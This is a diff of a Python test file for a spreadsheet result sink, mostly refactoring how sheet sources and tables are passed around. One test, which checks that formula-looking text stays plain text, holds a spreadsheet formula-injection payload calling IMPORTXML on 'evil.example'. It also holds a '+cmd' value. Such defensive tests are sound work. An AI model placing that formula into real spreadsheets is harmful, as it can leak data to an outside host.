@@ -2,10 +2,11 @@
 
 from __future__ import annotations
 
+from service.domain.sources import SheetSource
 from service.sheets.cells import TRUNCATION_MARKER
 from service.sheets.google_api import GoogleSheetsApi
-from service.sheets.prepare import PreparedSheet, prepare_sheet
-from service.sheets.selection import SheetSelection
+from service.sheets.port import PreparedSheet
+from service.sheets.prepare import prepare_sheet
 from service.sheets.sink import SheetResultSink
 from tests.fakes.sheets_server import FakeClock, FakeSheetsServer
 from tests.sheets.conftest import companies
@@ -16,7 +17,7 @@ FIELDS = ["industry", "description"]
 
 def _prepare(server: FakeSheetsServer, api: GoogleSheetsApi, rows: list[list[str]]) -> PreparedSheet:
     server.create_spreadsheet("s", {"Sheet1": rows}, rows=max(1000, len(rows) + 10))
-    return prepare_sheet(api, SheetSelection("s", "Sheet1"), FIELDS, key_prefix="job1")
+    return prepare_sheet(api, SheetSource("s", sheet_name="Sheet1"), FIELDS, key_prefix="job1")
 
 
 def _by_name(server: FakeSheetsServer) -> dict[str, dict[str, str]]:
@@ -28,9 +29,9 @@ def test_many_rows_in_one_window_cost_one_search_and_one_write(
     server: FakeSheetsServer, api: GoogleSheetsApi, clock: FakeClock
 ) -> None:
     prepared = _prepare(server, api, companies(200))
-    sink = SheetResultSink(api, prepared.selection, prepared.layout, flush_interval=5.0, clock=clock)
+    sink = SheetResultSink(api, prepared.source, flush_interval=5.0, clock=clock)
     writes_before = server.calls["values.batchUpdate"]
-    for record in prepared.read.table.records:
+    for record in prepared.table.records:
         sink.write(job(), [done_row(record.key, record.cells["Company"])])
     assert server.calls["values.batchUpdate"] == writes_before  # still inside the window
     sink.close()
@@ -44,8 +45,8 @@ def test_many_rows_in_one_window_cost_one_search_and_one_write(
 
 def test_statuses_then_results_and_the_window(server: FakeSheetsServer, api: GoogleSheetsApi, clock: FakeClock) -> None:
     prepared = _prepare(server, api, companies(3))
-    keys = [r.key for r in prepared.read.table.records]
-    sink = SheetResultSink(api, prepared.selection, prepared.layout, flush_interval=5.0, clock=clock)
+    keys = [r.key for r in prepared.table.records]
+    sink = SheetResultSink(api, prepared.source, flush_interval=5.0, clock=clock)
     sink.write_statuses(keys, "queued")
     sink.flush()
     assert [r["Rowscout status"] for r in _by_name(server).values()] == ["queued"] * 3
@@ -60,12 +61,13 @@ def test_statuses_then_results_and_the_window(server: FakeSheetsServer, api: Goo
 
 def test_formula_looking_text_stays_text(server: FakeSheetsServer, api: GoogleSheetsApi, clock: FakeClock) -> None:
     prepared = _prepare(server, api, companies(1))
-    key = prepared.read.table.records[0].key  # type: ignore[index]
+    key = prepared.table.records[0].key  # type: ignore[index]
     evil = '=IMPORTXML("http://evil.example","//a")'
-    sink = SheetResultSink(api, prepared.selection, prepared.layout, clock=clock)
+    sink = SheetResultSink(api, prepared.source, clock=clock)
     sink.write(job(), [done_row(key, "+cmd", description=evil)])
     sink.close()
-    column = prepared.layout.columns["description"]
+    assert prepared.source.layout is not None
+    column = prepared.source.layout.columns["description"]
     cell = server.model.book("s").sheets[0].get(1, column)
     assert cell is not None and (cell.kind, cell.value) == ("string", evil)
     assert all(w.body.get("valueInputOption", "RAW") == "RAW" for w in server.writes)
@@ -75,8 +77,8 @@ def test_long_cells_are_truncated_with_a_marker(
     server: FakeSheetsServer, api: GoogleSheetsApi, clock: FakeClock
 ) -> None:
     prepared = _prepare(server, api, companies(1))
-    key = prepared.read.table.records[0].key  # type: ignore[index]
-    sink = SheetResultSink(api, prepared.selection, prepared.layout, clock=clock)
+    key = prepared.table.records[0].key  # type: ignore[index]
+    sink = SheetResultSink(api, prepared.source, clock=clock)
     sink.write(job(), [done_row(key, "Company 0000", description="x" * 60_000)])
     sink.close()
     text = _by_name(server)["Company 0000"]["Description"]
@@ -85,9 +87,9 @@ def test_long_cells_are_truncated_with_a_marker(
 
 def test_payload_is_split_under_the_limit(server: FakeSheetsServer, api: GoogleSheetsApi, clock: FakeClock) -> None:
     prepared = _prepare(server, api, companies(60))
-    sink = SheetResultSink(api, prepared.selection, prepared.layout, clock=clock, max_payload_bytes=20_000)
+    sink = SheetResultSink(api, prepared.source, clock=clock, max_payload_bytes=20_000)
     before = len(server.writes)
-    for i, record in enumerate(prepared.read.table.records):
+    for i, record in enumerate(prepared.table.records):
         name = record.cells["Company"]
         sink.write(job(), [done_row(record.key, name, description=f"{i} " + "d" * 1500)])
     result = sink.flush()
@@ -102,9 +104,9 @@ def test_deleted_row_is_reported_skipped_not_written_elsewhere(
     server: FakeSheetsServer, api: GoogleSheetsApi, clock: FakeClock
 ) -> None:
     prepared = _prepare(server, api, companies(5))
-    records = list(prepared.read.table.records)
+    records = list(prepared.table.records)
     server.delete_rows("s", "Sheet1", start=2, end=3)  # "Company 0001" (sheet row 3)
-    sink = SheetResultSink(api, prepared.selection, prepared.layout, clock=clock)
+    sink = SheetResultSink(api, prepared.source, clock=clock)
     sink.write(job(), [done_row(r.key, r.cells["Company"]) for r in records])
     result = sink.flush()
     assert result.skipped == [records[1].key] and sink.skipped == {records[1].key}
@@ -119,13 +121,13 @@ def test_failed_flush_keeps_rows_for_the_next_one(
     make_api,
     clock: FakeClock,  # type: ignore[no-untyped-def]
 ) -> None:
-    from service.errors import SheetsError
-    from service.sheets.retry import RetryPolicy
+    from service.domain.errors import SheetsError
+    from service.domain.retry import RetryPolicy
 
     api = make_api(retry=RetryPolicy(max_attempts=2))
     prepared = _prepare(server, api, companies(4))
-    sink = SheetResultSink(api, prepared.selection, prepared.layout, clock=clock)
-    sink.write(job(), [done_row(r.key, r.cells["Company"]) for r in prepared.read.table.records])
+    sink = SheetResultSink(api, prepared.source, clock=clock)
+    sink.write(job(), [done_row(r.key, r.cells["Company"]) for r in prepared.table.records])
     server.fail_next(2, status=503)
     try:
         sink.flush()
